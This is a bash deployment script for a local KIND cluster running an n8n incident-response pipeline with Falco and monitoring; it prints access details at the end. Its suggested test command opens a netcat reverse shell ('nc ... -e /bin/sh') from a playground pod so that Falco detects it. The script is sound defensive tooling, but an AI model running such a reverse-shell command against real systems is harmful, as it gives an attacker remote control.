# shellcheck shell=bash
# The order in which the system is installed. Each stage detects and keeps its earlier results.

up() {
  check_machine
  [[ $DRY_RUN == yes ]] || announce
  STAGES_OF=$(grep -c '^  stage ' "$ROOT/cluster/kind/up.sh")
  watch_end
  stage 'Cluster' ensure_cluster
  stage 'Custom resources' install_definitions
  stage 'Namespaces and policy' install_policy
  stage "Responder's identity and admission" install_token
  stage 'Secrets' install_secrets
  stage "n8n's image" build_image
  stage 'Images into the node' load_images
  stage 'n8n' install_n8n
  stage 'Monitoring' install_monitoring
  stage 'Falco' install_falco
  stage 'Playground' install_playground
  stage 'All ready' await_all
  if [[ $DRY_RUN == yes ]]; then
    ((PROBLEMS == 0)) || refuse_machine
    return 0
  fi
  # shellcheck disable=SC2034 # read in say.sh
  STAGES_OF=''
  prove_if_changed
  print_summary
}

# What will happen, before it happens.
announce() {
  cat <<ANNOUNCEMENT
This will install into the KIND cluster $CLUSTER (created if it is not there): the custom resources, policy and
identity of the pipeline, n8n with its image built here$(for part in "${OPTIONAL[@]}"; do ! wants "$part" || printf ', %s' "$part"; done).
Then it proves that it works. The first run takes 10 to 20 minutes, most of it for images; later ones about one.
It writes into $STATE, and changes no other cluster and no kubeconfig of yours.
--dry-run prints each command first. Ctrl-C stops it; the same command then continues.

ANNOUNCEMENT
}

print_summary() {
  local expires
  expires="$(date -u -d '+1 hour' +%FT%RZ 2>/dev/null || date -u -v+1H +%FT%RZ)"
  cat <<SUMMARY

The system is up, in the KIND cluster $CLUSTER. This took $((SECONDS / 60)) min $((SECONDS % 60)) s.

  n8n            $N8N_URL   $(secret n8n n8n ownerEmail) / $(secret n8n n8n ownerPassword)
$(optional_addresses)
  Pushgateway    http://127.0.0.1:30123
  Approvals      $N8N_URL/form/incident-approvals
  Kubernetes     $KUBECONFIG_FILE
  Log            $STATE/deploy.log

  The responder's token, for a credential outside the cluster, until $expires (shown here only):
  $(k create token n8n-responder --namespace n8n --duration 1h)

$(who_decides)
$(left_out)
Try next:
  export KUBECONFIG=$KUBECONFIG_FILE
$(what_to_try)
  kubectl get quarantines,approvals -n n8n
                          what was isolated, and what waits for a person
  open Incident Pipeline in n8n
                          its executions show each decision

  ./deploy.sh --status    memory, pods that are not ready, and the results of the last proof
  ./deploy.sh --down      delete the cluster
SUMMARY
}

optional_addresses() {
  ! wants kube-prometheus-stack || printf '  %s\n' "Grafana        http://127.0.0.1:30300   admin / $(secret monitoring grafana-admin admin-password)" \
    'Prometheus     http://127.0.0.1:30900'
  ! wants falco || printf '  %s\n' "Falco's UI     http://127.0.0.1:32040   $(secret security falcosidekick-ui FALCOSIDEKICK_UI_USER | sed 's|:| / |')"
}

who_decides() {
  local model
  model="$(secret n8n n8n-import model)"
  printf '  Decisions come from %s.' "${model:-the playbook: no model is configured (OPENAI_API_KEY or OPENAI_BASE_URL, and OPENAI_MODEL)}"
}

left_out() {
  [[ -z $WITHOUT ]] || printf '  Left out, as asked: %s.\n' "$WITHOUT"
}

what_to_try() {
  if wants falco; then
    printf '  kubectl exec -n playground -it pod-delete-test -- nc 1.1.1.1 4444 -e /bin/sh\n'
    printf '                          Falco sees it, the pipeline deletes the pod: kubectl get events -n playground -w\n'
  else
    printf '  ./deploy.sh --self-test send an alert as Falco would, and follow it\n'
  fi
}
